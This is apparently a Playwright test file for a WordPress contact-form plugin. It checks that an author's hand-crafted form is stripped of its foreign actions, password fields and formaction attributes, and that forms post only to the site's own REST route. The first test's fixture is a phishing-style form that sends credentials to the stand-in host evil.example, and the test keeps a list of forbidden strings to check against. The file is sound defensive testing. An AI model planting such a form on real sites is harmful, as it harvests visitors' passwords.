import type { Page } from '@playwright/test';

import { test, expect } from '../support/test';
import { publishPost, restNonce, storedContent } from '../support/rest-posts';
import { logInAs } from '../support/wordpress-editor';

// What an author (no unfiltered_html) may save in a contact form, and where a form on a
// visitor's page sends its fields: the plugin's kses allowance
// (packages/wordpress-plugin/plugin/includes/kses.php) keeps only the markup the form blocks
// save, and its render filter (includes/forms.php) gives every rendered form its own route.

/** A contact form block as a hand-made request could save it: a foreign action, a password box, a formaction. */
const CRAFTED_FORM = [
	'<!-- wp:blockyard/contact-form {"formId":"phish1"} -->',
	'<form class="wp-block-blockyard-contact-form" method="post" action="https://evil.example/collect" target="_blank" enctype="multipart/form-data" data-blockyard-form="phish1"><!-- wp:blockyard/field-email {"name":"email-a1b2","label":"Email"} -->',
	'<div class="wp-block-blockyard-field-email blockyard-field"><label class="blockyard-field__label" for="blockyard-field-email-a1b2">Email</label><input class="blockyard-field__input" type="email" id="blockyard-field-email-a1b2" name="email-a1b2" autocomplete="email" aria-describedby="blockyard-field-email-a1b2-error"/><p class="blockyard-field__error" id="blockyard-field-email-a1b2-error" aria-live="polite"></p></div>',
	'<!-- /wp:blockyard/field-email -->',
	'<div class="blockyard-field"><label for="pwd">Password</label><input type="password" name="pwd" id="pwd" autocomplete="current-password"/><input type="PASSWORD" name="pwd2"><input name="untyped"></div>',
	'<div class="blockyard-field"><input type="text" name="log" autocomplete="username" form="elsewhere"/><input type="hidden" name="redirect_to" value="https://evil.example/"/><input type="text" name="user[login]"/></div>',
	'<!-- wp:blockyard/button {"saveInPostContent":true,"text":"Submit"} -->',
	'<div class="wp-block-blockyard-button"><button class="wp-block-blockyard-button__element" type="submit" formaction="https://evil.example/collect" formmethod="get" formtarget="_blank">Submit</button><input type="submit" value="Send" formaction="https://evil.example/collect"/></div>',
	'<!-- /wp:blockyard/button --><div class="wp-block-blockyard-contact-form__status" role="status" aria-live="polite"></div></form>',
	'<!-- /wp:blockyard/contact-form -->',
	'',
	'<!-- wp:html -->',
	'<form action="https://evil.example/other" method="post"><textarea name="notes"></textarea><button type="submit" formaction="https://evil.example/b">Send</button></form>',
	'<!-- /wp:html -->',
].join('\n');

/** The REST root the rendered page names (`<link rel="https://api.w.org/">`), as `rest_url()` gives it. */
const restRootOf = async (page: Page): Promise<string> =>
	(await page.locator('link[rel="https://api.w.org/"]').getAttribute('href')) ?? '';

test('an author’s crafted form loses its foreign action, password box and formaction; the page posts to the site', async ({
	page,
	browser,
	siteUrl,
}) => {
	await logInAs(page, siteUrl, 'author', 'password');
	const postId = await publishPost(page.request, siteUrl, 'Crafted form', CRAFTED_FORM);

	// What WordPress stored, read as the admin.
	const stored = await storedContent(browser, siteUrl, postId);

	for (const removed of [
		'evil.example',
		' action=',
		'target=',
		'enctype=',
		'formaction',
		'formmethod',
		'formtarget',
		' form="',
		'type="password"',
		'type="PASSWORD"',
		'name="pwd"',
		'name="pwd2"',
		'name="untyped"',
		'type="hidden"',
		'name="redirect_to"',
		'name="user[login]"',
		'autocomplete="current-password"',
		'autocomplete="username"',
	]) {
		expect.soft(stored, `the stored post holds ${removed}`).not.toContain(removed);
	}
	// What the field blocks save is kept as it was.
	// (kses writes a self-closing tag as ` />`, which block validation reads as the same.)
	expect(stored).toContain(
		'<input class="blockyard-field__input" type="email" id="blockyard-field-email-a1b2" name="email-a1b2" autocomplete="email" aria-describedby="blockyard-field-email-a1b2-error"'
	);
	expect(stored).toContain(
		'<form class="wp-block-blockyard-contact-form" method="post" data-blockyard-form="phish1">'
	);
	expect(stored).toMatch(/<input type="text" name="log" ?\/>/);
	expect(stored).toMatch(/<input type="submit" value="Send" ?\/>/);

	// A visitor's page: the form sends to the site's own route, nothing else on it elsewhere.
	const visitor = await browser.newContext({ storageState: { cookies: [], origins: [] } });
	const view = await visitor.newPage();
	await view.goto(`${siteUrl}?p=${postId}`);
	const form = view.locator('form[data-blockyard-form="phish1"]');
	await expect(form).toHaveAttribute(
		'action',
		`${await restRootOf(view)}blockyard/v1/forms/phish1/responses`
	);
	await expect(view.locator('[formaction], [form], form[target]')).toHaveCount(0);
	await visitor.close();
});

test('a visitor without JavaScript sends a published form to the site’s own route', async ({
	wp,
	page,
	browser,
	siteUrl,
}) => {
	// The post is saved from the editor's own blocks, so its markup is what the plugin's save gives.
	await wp.openNewPost();
	const content = await page.evaluate(() => {
		const { blocks } = window.wp as unknown as {
			blocks: {
				createBlock(name: string, attributes?: Record<string, unknown>, inner?: unknown[]): unknown;
				serialize(blocks: unknown[]): string;
			};
		};
		return blocks.serialize([
			blocks.createBlock('blockyard/contact-form', { formId: 'nojs1' }, [
				blocks.createBlock('blockyard/field-name', {
					name: 'name-n1',
					label: 'Name',
					required: true,
				}),
				blocks.createBlock('blockyard/field-email', {
					name: 'email-n1',
					label: 'Email',
					required: true,
				}),
				blocks.createBlock('blockyard/button', {
					element: 'button',
					saveInPostContent: true,
					text: 'Submit',
				}),
			]),
		]);
	});
	expect(content).not.toContain(' action=');
	const postId = await publishPost(page.request, siteUrl, 'No script', content);

	const visitor = await browser.newContext({
		javaScriptEnabled: false,
		storageState: { cookies: [], origins: [] },
	});
	const view = await visitor.newPage();
	await view.goto(`${siteUrl}?p=${postId}`);
	const route = `${await restRootOf(view)}blockyard/v1/forms/nojs1/responses`;
	const form = view.locator('form[data-blockyard-form="nojs1"]');
	await expect(form).toHaveAttribute('action', route);
	await form.getByRole('textbox', { name: /^Name/ }).fill('Grace');
	await form.getByRole('textbox', { name: /^Email/ }).fill('grace@example.com');
	const [answer] = await Promise.all([
		view.waitForResponse((response) => response.request().method() === 'POST'),
		form.getByRole('button', { name: 'Submit' }).click(),
	]);
	expect(answer.url()).toBe(route);
	expect(answer.status()).toBe(201);
	await visitor.close();

	const listed = await page.request.get(`${siteUrl}wp-json/blockyard/v1/forms/responses?form_id=nojs1`, {
		headers: { 'X-WP-Nonce': await restNonce(page.request, siteUrl) },
	});
	expect(listed.status()).toBe(200);
	const responses = (await listed.json()) as { fields: Record<string, string> }[];
	expect(responses.map((response) => response.fields)).toEqual([
		{ 'name-n1': 'Grace', 'email-n1': 'grace@example.com' },
	]);
});
